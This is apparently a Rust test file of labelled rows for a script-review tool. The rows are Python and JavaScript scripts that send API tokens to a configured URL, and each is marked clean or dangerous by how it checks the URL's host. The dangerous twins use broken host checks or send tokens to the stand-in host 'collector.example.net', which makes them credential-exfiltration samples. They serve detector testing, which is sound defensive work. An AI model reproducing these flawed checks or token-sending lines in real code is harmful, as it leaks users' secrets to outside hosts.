//! Session 53's precision rows for Python, JavaScript and TypeScript scripts (issue 17): a URL
//! read from the project's settings, whose host the script checks before it sends anything
//! there, leaving (`raise`, `sys.exit`, `throw`, `return`) unless the host is one of a list or
//! below a suffix (`urlparse(base).hostname not in HOSTS`, `host.endswith(".internal")`,
//! `LOCAL_HOSTS.has(url.hostname)`, `url.hostname === 'localhost' || ...`), points at one of
//! those hosts past the check (`crate::host_check` in the library). The token sent there with
//! it goes to this machine or the network's own zone.
//!
//! Each clean row has its twins beside it, which stay dangerous: the failure branch only logs,
//! the check is of another URL, the check comes after the request, the list names a host
//! nobody answers for, a suffix without its leading dot (`endswith("internal")`).

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::{JavaScript as Js, Python as Py};
use Verdict::{Clean, Dangerous};

#[test]
fn python_url_checked_against_local_hosts_points_there() {
    rows(&[
        // checked against this machine's names, `raise` on the other branch
        (Py, r##"import os
from urllib.parse import urlparse

import requests


def setting(name, default=""):
    if name in os.environ:
        return os.environ[name]
    for line in open(".env").read().splitlines():
        key, sep, value = line.partition("=")
        if sep and key.strip() == name:
            return value.strip()
    return default


def fetch(project):
    base = setting("LABEL_STUDIO_URL", "http://localhost:8080").rstrip("/")
    host = urlparse(base).hostname
    if host not in ("localhost", "127.0.0.1"):
        raise SystemExit(f"must point at this machine, got {host}")
    token = setting("LSTUDIO_API_KEY")
    resp = requests.get(f"{base}/api/projects/{project}/export", headers={"Authorization": f"Token {token}"})
    return resp.json()


print(len(fetch(3)))
"##.to_owned(), Clean, ""),
        // the same check leaving by `sys.exit(...)`
        (Py, r##"import os
import sys
from urllib.parse import urlparse

import requests


def setting(name, default=""):
    if name in os.environ:
        return os.environ[name]
    for line in open(".env").read().splitlines():
        key, sep, value = line.partition("=")
        if sep and key.strip() == name:
            return value.strip()
    return default


def fetch(project):
    base = setting("LABEL_STUDIO_URL", "http://localhost:8080").rstrip("/")
    host = urlparse(base).hostname
    if host not in ("localhost", "127.0.0.1"):
        sys.exit(f"must point at this machine, got {host}")
    token = setting("LSTUDIO_API_KEY")
    resp = requests.get(f"{base}/api/projects/{project}/export", headers={"Authorization": f"Token {token}"})
    return resp.json()


print(len(fetch(3)))
"##.to_owned(), Clean, ""),
        // `host != "localhost" and not host.endswith(".internal")`
        (Py, r##"import os
from urllib.parse import urlparse

import requests


def setting(name, default=""):
    if name in os.environ:
        return os.environ[name]
    for line in open(".env").read().splitlines():
        key, sep, value = line.partition("=")
        if sep and key.strip() == name:
            return value.strip()
    return default


def fetch(project):
    base = setting("LABEL_STUDIO_URL", "http://localhost:8080").rstrip("/")
    host = urlparse(base).hostname
    if host != "localhost" and not host.endswith(".internal"):
        raise SystemExit(f"must point at this machine, got {host}")
    token = setting("LSTUDIO_API_KEY")
    resp = requests.get(f"{base}/api/projects/{project}/export", headers={"Authorization": f"Token {token}"})
    return resp.json()


print(len(fetch(3)))
"##.to_owned(), Clean, ""),
        // a helper that checks the URL and returns it (`base = checked(...)`)
        (Py, r##"import os
from urllib.parse import urlparse

import requests


def setting(name, default=""):
    if name in os.environ:
        return os.environ[name]
    for line in open(".env").read().splitlines():
        key, sep, value = line.partition("=")
        if sep and key.strip() == name:
            return value.strip()
    return default


def checked(base):
    host = urlparse(base).hostname or ""
    if host not in {"localhost", "127.0.0.1"} and not host.endswith(".internal"):
        raise SystemExit(f"{base} is not local; refusing")
    return base.rstrip("/")


def fetch(project):
    base = checked(setting("LABEL_STUDIO_URL", "http://localhost:8080"))
    token = setting("LSTUDIO_API_KEY")
    resp = requests.get(f"{base}/api/projects/{project}/export", headers={"Authorization": f"Token {token}"})
    return resp.json()


print(len(fetch(3)))
"##.to_owned(), Clean, ""),
        // twin: the failure branch only prints
        (Py, r##"import os
from urllib.parse import urlparse

import requests


def setting(name, default=""):
    if name in os.environ:
        return os.environ[name]
    for line in open(".env").read().splitlines():
        key, sep, value = line.partition("=")
        if sep and key.strip() == name:
            return value.strip()
    return default


def fetch(project):
    base = setting("LABEL_STUDIO_URL", "http://localhost:8080").rstrip("/")
    host = urlparse(base).hostname
    if host not in ("localhost", "127.0.0.1"):
        print(f"must point at this machine, got {host}")
    token = setting("LSTUDIO_API_KEY")
    resp = requests.get(f"{base}/api/projects/{project}/export", headers={"Authorization": f"Token {token}"})
    return resp.json()


print(len(fetch(3)))
"##.to_owned(), Dangerous, "exfiltration"),
        // twin: the host of another URL is checked
        (Py, r##"import os
from urllib.parse import urlparse

import requests


def setting(name, default=""):
    if name in os.environ:
        return os.environ[name]
    for line in open(".env").read().splitlines():
        key, sep, value = line.partition("=")
        if sep and key.strip() == name:
            return value.strip()
    return default


def fetch(project):
    base = setting("LABEL_STUDIO_URL", "http://localhost:8080").rstrip("/")
    host = urlparse(setting("OTHER_URL")).hostname
    if host not in ("localhost", "127.0.0.1"):
        raise SystemExit(f"must point at this machine, got {host}")
    token = setting("LSTUDIO_API_KEY")
    resp = requests.get(f"{base}/api/projects/{project}/export", headers={"Authorization": f"Token {token}"})
    return resp.json()


print(len(fetch(3)))
"##.to_owned(), Dangerous, "exfiltration"),
        // twin: the check comes after the request
        (Py, r##"import os
from urllib.parse import urlparse

import requests


def setting(name, default=""):
    if name in os.environ:
        return os.environ[name]
    for line in open(".env").read().splitlines():
        key, sep, value = line.partition("=")
        if sep and key.strip() == name:
            return value.strip()
    return default


def fetch(project):
    base = setting("LABEL_STUDIO_URL", "http://localhost:8080").rstrip("/")
    host = urlparse(base).hostname
    token = setting("LSTUDIO_API_KEY")
    resp = requests.get(f"{base}/api/projects/{project}/export", headers={"Authorization": f"Token {token}"})
    if host not in ("localhost", "127.0.0.1"):
        raise SystemExit(f"must point at this machine, got {host}")
    return resp.json()


print(len(fetch(3)))
"##.to_owned(), Dangerous, "exfiltration"),
        // twin: the list names a host nobody answers for
        (Py, r##"import os
from urllib.parse import urlparse

import requests


def setting(name, default=""):
    if name in os.environ:
        return os.environ[name]
    for line in open(".env").read().splitlines():
        key, sep, value = line.partition("=")
        if sep and key.strip() == name:
            return value.strip()
    return default


def fetch(project):
    base = setting("LABEL_STUDIO_URL", "http://localhost:8080").rstrip("/")
    host = urlparse(base).hostname
    if host not in ("localhost", "collector.example.net"):
        raise SystemExit(f"must point at this machine, got {host}")
    token = setting("LSTUDIO_API_KEY")
    resp = requests.get(f"{base}/api/projects/{project}/export", headers={"Authorization": f"Token {token}"})
    return resp.json()


print(len(fetch(3)))
"##.to_owned(), Dangerous, "exfiltration"),
        // twin: `endswith("internal")` lets `evilinternal` through
        (Py, r##"import os
from urllib.parse import urlparse

import requests


def setting(name, default=""):
    if name in os.environ:
        return os.environ[name]
    for line in open(".env").read().splitlines():
        key, sep, value = line.partition("=")
        if sep and key.strip() == name:
            return value.strip()
    return default


def fetch(project):
    base = setting("LABEL_STUDIO_URL", "http://localhost:8080").rstrip("/")
    host = urlparse(base).hostname
    if host != "localhost" and not host.endswith("internal"):
        raise SystemExit(f"must point at this machine, got {host}")
    token = setting("LSTUDIO_API_KEY")
    resp = requests.get(f"{base}/api/projects/{project}/export", headers={"Authorization": f"Token {token}"})
    return resp.json()


print(len(fetch(3)))
"##.to_owned(), Dangerous, "exfiltration"),
    ]);
}

#[test]
fn javascript_url_checked_against_local_hosts_points_there() {
    rows(&[
        // `!(a === 'localhost' || a === '127.0.0.1' || a.endsWith('.internal'))`, `throw`
        (Js, r##"const fs = require('node:fs');
const path = require('node:path');

function readDotEnv(file) {
  const values = {};
  for (const line of fs.readFileSync(file, 'utf8').split(/\r?\n/)) {
    const m = line.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)\s*$/);
    if (m) values[m[1]] = m[2];
  }
  return values;
}

function config() {
  const env = { ...readDotEnv(path.join(process.cwd(), '.env')), ...process.env };
  const base = new URL(env.SYNAPSE_URL || 'http://localhost:8008');
  if (!(base.hostname === 'localhost' || base.hostname === '127.0.0.1' || base.hostname.endsWith('.internal'))) {
    throw new Error(`SYNAPSE_URL ${base.hostname} is not a dev server`);
  }
  const token = env.MATRIX_ADMIN_TOKEN;
  return { base, token };
}

async function main() {
  const cfg = config();
  const res = await fetch(new URL('/_synapse/admin/v1/rooms', cfg.base), {
    headers: { Authorization: `Bearer ${cfg.token}` },
  });
  console.log(res.status);
}

main();
"##.to_owned(), Clean, ""),
        // `LOCAL_HOSTS.has(base.hostname)` of a `new Set([...])`
        (Js, r##"const fs = require('node:fs');
const path = require('node:path');

const LOCAL_HOSTS = new Set(['localhost', '127.0.0.1', '[::1]']);

function readDotEnv(file) {
  const values = {};
  for (const line of fs.readFileSync(file, 'utf8').split(/\r?\n/)) {
    const m = line.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)\s*$/);
    if (m) values[m[1]] = m[2];
  }
  return values;
}

function config() {
  const env = { ...readDotEnv(path.join(process.cwd(), '.env')), ...process.env };
  const base = new URL(env.SYNAPSE_URL || 'http://localhost:8008');
  if (!LOCAL_HOSTS.has(base.hostname)) {
    throw new Error(`SYNAPSE_URL must be local, got ${base.hostname}`);
  }
  const token = env.MATRIX_ADMIN_TOKEN;
  return { base, token };
}

async function main() {
  const cfg = config();
  const res = await fetch(new URL('/_synapse/admin/v1/rooms', cfg.base), {
    headers: { Authorization: `Bearer ${cfg.token}` },
  });
  console.log(res.status);
}

main();
"##.to_owned(), Clean, ""),
        // `const host = new URL(base).hostname` checked with `!==` and `endsWith`
        (Js, r##"const fs = require('node:fs');
const path = require('node:path');

function readDotEnv(file) {
  const values = {};
  for (const line of fs.readFileSync(file, 'utf8').split(/\r?\n/)) {
    const m = line.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)\s*$/);
    if (m) values[m[1]] = m[2];
  }
  return values;
}

function config() {
  const env = { ...readDotEnv(path.join(process.cwd(), '.env')), ...process.env };
  const base = env.SYNAPSE_URL || 'http://localhost:8008';
  const host = new URL(base).hostname;
  if (host !== 'localhost' && host !== '127.0.0.1' && !host.endsWith('.internal')) {
    throw new Error(`SYNAPSE_URL ${host} is not a dev server`);
  }
  const token = env.MATRIX_ADMIN_TOKEN;
  return { base, token };
}

async function main() {
  const cfg = config();
  const res = await fetch(new URL('/_synapse/admin/v1/rooms', cfg.base), {
    headers: { Authorization: `Bearer ${cfg.token}` },
  });
  console.log(res.status);
}

main();
"##.to_owned(), Clean, ""),
        // a webhook the environment configures, checked against its own host: still that
        // configured endpoint (the check says nothing the value did not)
        (Js, r##"const https = require('https');

const WEBHOOK = process.env.SLACK_WEBHOOK_URL;

function post(url, body) {
  const u = new URL(url);
  if (u.hostname !== 'hooks.slack.com') {
    throw new Error(`unexpected webhook host ${u.hostname}`);
  }
  return new Promise((resolve, reject) => {
    const req = https.request(u, { method: 'POST', headers: { 'content-type': 'application/json' } }, (res) => {
      res.resume();
      res.on('end', resolve);
    });
    req.on('error', reject);
    req.end(JSON.stringify(body));
  });
}

post(WEBHOOK, { text: 'nightly build done' });
"##.to_owned(), Clean, ""),
        // twin: the failure branch only prints
        (Js, r##"const fs = require('node:fs');
const path = require('node:path');

function readDotEnv(file) {
  const values = {};
  for (const line of fs.readFileSync(file, 'utf8').split(/\r?\n/)) {
    const m = line.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)\s*$/);
    if (m) values[m[1]] = m[2];
  }
  return values;
}

function config() {
  const env = { ...readDotEnv(path.join(process.cwd(), '.env')), ...process.env };
  const base = new URL(env.SYNAPSE_URL || 'http://localhost:8008');
  if (!(base.hostname === 'localhost' || base.hostname === '127.0.0.1' || base.hostname.endsWith('.internal'))) {
    console.warn(`SYNAPSE_URL ${base.hostname} is not a dev server`);
  }
  const token = env.MATRIX_ADMIN_TOKEN;
  return { base, token };
}

async function main() {
  const cfg = config();
  const res = await fetch(new URL('/_synapse/admin/v1/rooms', cfg.base), {
    headers: { Authorization: `Bearer ${cfg.token}` },
  });
  console.log(res.status);
}

main();
"##.to_owned(), Dangerous, "exfiltration"),
        // twin: the host of another URL is checked
        (Js, r##"const fs = require('node:fs');
const path = require('node:path');

function readDotEnv(file) {
  const values = {};
  for (const line of fs.readFileSync(file, 'utf8').split(/\r?\n/)) {
    const m = line.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)\s*$/);
    if (m) values[m[1]] = m[2];
  }
  return values;
}

function config() {
  const env = { ...readDotEnv(path.join(process.cwd(), '.env')), ...process.env };
  const base = new URL(env.SYNAPSE_URL || 'http://localhost:8008');
  const other = new URL(env.OTHER_URL || 'http://localhost:1');
  if (!(other.hostname === 'localhost' || other.hostname === '127.0.0.1' || other.hostname.endsWith('.internal'))) {
    throw new Error(`SYNAPSE_URL ${other.hostname} is not a dev server`);
  }
  const token = env.MATRIX_ADMIN_TOKEN;
  return { base, token };
}

async function main() {
  const cfg = config();
  const res = await fetch(new URL('/_synapse/admin/v1/rooms', cfg.base), {
    headers: { Authorization: `Bearer ${cfg.token}` },
  });
  console.log(res.status);
}

main();
"##.to_owned(), Dangerous, "exfiltration"),
        // twin: the list names a host nobody answers for
        (Js, r##"const fs = require('node:fs');
const path = require('node:path');

function readDotEnv(file) {
  const values = {};
  for (const line of fs.readFileSync(file, 'utf8').split(/\r?\n/)) {
    const m = line.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)\s*$/);
    if (m) values[m[1]] = m[2];
  }
  return values;
}

function config() {
  const env = { ...readDotEnv(path.join(process.cwd(), '.env')), ...process.env };
  const base = new URL(env.SYNAPSE_URL || 'http://localhost:8008');
  if (!(base.hostname === 'localhost' || base.hostname === 'collector.example.net' || base.hostname.endsWith('.internal'))) {
    throw new Error(`SYNAPSE_URL ${base.hostname} is not a dev server`);
  }
  const token = env.MATRIX_ADMIN_TOKEN;
  return { base, token };
}

async function main() {
  const cfg = config();
  const res = await fetch(new URL('/_synapse/admin/v1/rooms', cfg.base), {
    headers: { Authorization: `Bearer ${cfg.token}` },
  });
  console.log(res.status);
}

main();
"##.to_owned(), Dangerous, "exfiltration"),
        // twin: the Set names a host nobody answers for
        (Js, r##"const fs = require('node:fs');
const path = require('node:path');

const LOCAL_HOSTS = new Set(['localhost', '127.0.0.1', 'collector.example.net']);

function readDotEnv(file) {
  const values = {};
  for (const line of fs.readFileSync(file, 'utf8').split(/\r?\n/)) {
    const m = line.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)\s*$/);
    if (m) values[m[1]] = m[2];
  }
  return values;
}

function config() {
  const env = { ...readDotEnv(path.join(process.cwd(), '.env')), ...process.env };
  const base = new URL(env.SYNAPSE_URL || 'http://localhost:8008');
  if (!LOCAL_HOSTS.has(base.hostname)) {
    throw new Error(`SYNAPSE_URL must be local, got ${base.hostname}`);
  }
  const token = env.MATRIX_ADMIN_TOKEN;
  return { base, token };
}

async function main() {
  const cfg = config();
  const res = await fetch(new URL('/_synapse/admin/v1/rooms', cfg.base), {
    headers: { Authorization: `Bearer ${cfg.token}` },
  });
  console.log(res.status);
}

main();
"##.to_owned(), Dangerous, "exfiltration"),
        // twin: `endsWith('internal')` lets `evilinternal` through
        (Js, r##"const fs = require('node:fs');
const path = require('node:path');

function readDotEnv(file) {
  const values = {};
  for (const line of fs.readFileSync(file, 'utf8').split(/\r?\n/)) {
    const m = line.match(/^\s*([A-Z0-9_]+)\s*=\s*(.*)\s*$/);
    if (m) values[m[1]] = m[2];
  }
  return values;
}

function config() {
  const env = { ...readDotEnv(path.join(process.cwd(), '.env')), ...process.env };
  const base = new URL(env.SYNAPSE_URL || 'http://localhost:8008');
  if (!(base.hostname === 'localhost' || base.hostname === '127.0.0.1' || base.hostname.endsWith('internal'))) {
    throw new Error(`SYNAPSE_URL ${base.hostname} is not a dev server`);
  }
  const token = env.MATRIX_ADMIN_TOKEN;
  return { base, token };
}

async function main() {
  const cfg = config();
  const res = await fetch(new URL('/_synapse/admin/v1/rooms', cfg.base), {
    headers: { Authorization: `Bearer ${cfg.token}` },
  });
  console.log(res.status);
}

main();
"##.to_owned(), Dangerous, "exfiltration"),
    ]);
}

/// A Python client class keeps its base URL in `self.base` and the token in its session: a read
/// of `self.base` in a method is what the class stored there, not everything the instance holds.
#[test]
fn python_self_attribute_is_what_was_stored() {
    rows(&[
        // a client class: the base URL (this machine) in `self.base`, the token in its session
        (
            Py,
            r##"import os

import requests


class Client:
    def __init__(self, base, token):
        self.base = base
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {token}"

    def get(self, path):
        return self.session.get(self.base + path)


c = Client("http://localhost:8080", os.environ.get("FHIR_TOKEN"))
print(c.get("/metadata").status_code)
"##
            .to_owned(),
            Clean,
            "",
        ),
        // the same client at a name of the network's own zone
        (
            Py,
            r##"import os

import requests


class Client:
    def __init__(self, base, token):
        self.base = base
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {token}"

    def get(self, path):
        return self.session.get(self.base + path)


c = Client("http://fhir.internal:8080", os.environ.get("FHIR_TOKEN"))
print(c.get("/metadata").status_code)
"##
            .to_owned(),
            Clean,
            "",
        ),
        // twin: the token stored in `self.token` and posted to a host nobody answers for
        (
            Py,
            r##"import os

import requests


class Client:
    def __init__(self, base, token):
        self.base = base
        self.session = requests.Session()
        self.token = token

    def get(self, path):
        return self.session.post("https://collector.example.net" + path, data=self.token)


c = Client("http://fhir.internal:8080", os.environ.get("FHIR_TOKEN"))
print(c.get("/metadata").status_code)
"##
            .to_owned(),
            Dangerous,
            "exfiltration",
        ),
        // twin: the same client given a host nobody answers for
        (
            Py,
            r##"import os

import requests


class Client:
    def __init__(self, base, token):
        self.base = base
        self.session = requests.Session()
        self.session.headers["Authorization"] = f"Bearer {token}"

    def get(self, path):
        return self.session.get(self.base + path)


c = Client("https://collector.example.net", os.environ.get("FHIR_TOKEN"))
print(c.get("/metadata").status_code)
"##
            .to_owned(),
            Dangerous,
            "exfiltration",
        ),
    ]);
}
